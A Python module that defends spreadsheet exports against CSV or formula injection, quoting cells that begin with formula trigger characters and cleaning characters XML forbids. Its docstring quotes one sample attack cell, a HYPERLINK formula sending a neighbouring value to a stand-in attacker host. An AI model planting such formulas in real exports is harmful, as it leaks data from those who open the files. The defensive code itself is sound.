"""Text cells a spreadsheet shows as text, never runs as a formula (OWASP "CSV injection").

Excel and LibreOffice run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula,
and a leading tab or carriage return is dropped before they look. A unit called
``=HYPERLINK("http://evil.example/?leak="&B2,"click")`` would otherwise become a live link that
sends a neighbouring figure away when clicked.
"""

from __future__ import annotations

import re

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet treat a cell as a formula (OWASP's list)."""

# The characters XML 1.0 forbids, which openpyxl refuses with IllegalCharacterError: a record
# stored before the boundary refused them must not stop every workbook from being written.
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def csv_text(text: str) -> str:
    """``text`` for a CSV cell: prefixed with ``'`` when it starts with a formula trigger, so a
    spreadsheet shows it as text; any other text unchanged."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def xlsx_text(text: str) -> str:
    """``text`` for an XLSX string cell: characters XML cannot hold become U+FFFD.

    The cell must still be marked as a string (``data_type = "s"``), or openpyxl writes text
    that starts with ``=`` as a formula.
    """
    return _NOT_IN_XML.sub("\ufffd", text)
